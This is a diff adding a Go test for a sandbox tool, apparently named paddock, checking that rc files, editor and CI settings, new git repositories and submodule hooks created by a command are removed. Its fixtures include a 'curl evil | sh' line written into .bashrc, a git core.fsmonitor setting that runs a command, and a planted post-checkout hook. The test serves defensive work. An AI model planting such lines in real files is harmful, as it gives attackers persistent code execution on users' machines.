@@ -67,3 +67,51 @@ func TestDiskLimit(t *testing.T) {
 		t.Errorf("big: %v, size %d, want at most %d", err, st.Size(), limit)
 	}
 }
+
+// TestProtectedPathsCreatedAreRemoved: a command cannot leave behind, for the next step or the
+// user's shell, what the host runs or loads later: a new repository (its config runs code), rc
+// files, editor and CI settings. Ordinary new files stay.
+func TestProtectedPathsCreatedAreRemoved(t *testing.T) {
+	requireAvailable(t)
+	tests := []struct {
+		name          string
+		allowGitWrite bool
+		script        string
+		gone, kept    []string
+	}{
+		{"rc files and settings", false,
+			"echo 'curl evil | sh' > .bashrc; mkdir -p .vscode sub/.github/workflows; echo '{}' > .vscode/tasks.json; echo x > sub/.github/workflows/ci.yml; echo x > .envrc; echo ok > notes.txt",
+			[]string{".bashrc", ".vscode", "sub/.github/workflows", ".envrc"}, []string{"notes.txt", "sub/.github"}},
+		{"a new repository in a subdirectory", false,
+			"mkdir -p sub && cd sub && git init -q && git config core.fsmonitor 'touch /tmp/pwned' && echo ok > file",
+			[]string{"sub/.git"}, []string{"sub/file"}},
+		{"with --allow-git-write: a submodule's hooks", true,
+			"mkdir -p .git/modules/m/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/modules/m/hooks/post-checkout && echo x > .git/objects/written",
+			[]string{".git/modules/m/hooks"}, []string{".git/objects/written", ".git/modules/m"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ws := t.TempDir()
+			if tt.allowGitWrite {
+				hostGit(t, ws, "init", "-q")
+			}
+			res, out, errOut := run(t, Config{Workspace: ws, AllowGitWrite: tt.allowGitWrite}, "sh", "-c", tt.script)
+			if res.ExitCode != 0 {
+				t.Fatalf("exit %d: %s %s", res.ExitCode, out, errOut)
+			}
+			for _, p := range tt.gone {
+				if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
+					t.Errorf("%s is still in the workspace", p)
+				}
+			}
+			if !strings.Contains(errOut, "paddock: removed ") || !strings.Contains(errOut, "protected path") {
+				t.Errorf("no notice of the removal in stderr %q", errOut)
+			}
+			for _, p := range tt.kept {
+				if _, err := os.Lstat(filepath.Join(ws, p)); err != nil {
+					t.Errorf("%s was removed too: %v", p, err)
+				}
+			}
+		})
+	}
+}
